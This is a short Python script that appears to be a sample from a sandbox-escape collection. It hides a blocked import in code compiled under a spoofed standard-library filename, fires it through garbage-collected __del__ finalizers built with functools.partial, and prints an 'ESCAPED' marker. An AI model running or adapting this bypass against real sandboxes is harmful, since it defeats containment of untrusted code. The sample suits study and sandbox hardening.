# technique: the same chain runs exec with fresh globals
# goal: import
# source: own analysis: C callables have no frame
import functools
g = {}
code = compile('import posix; pid = posix.getpid()', '@STDLIB@/os.py', 'exec')
for _ in range(400):
    class Bomb:
        __del__ = staticmethod(functools.partial(next, map(exec, [code], [g]), None))
    bomb = Bomb()
    bomb.self = bomb
del bomb
import difflib, calendar, statistics, uuid, hashlib
print('ESCAPED pid=%d' % g['pid'])
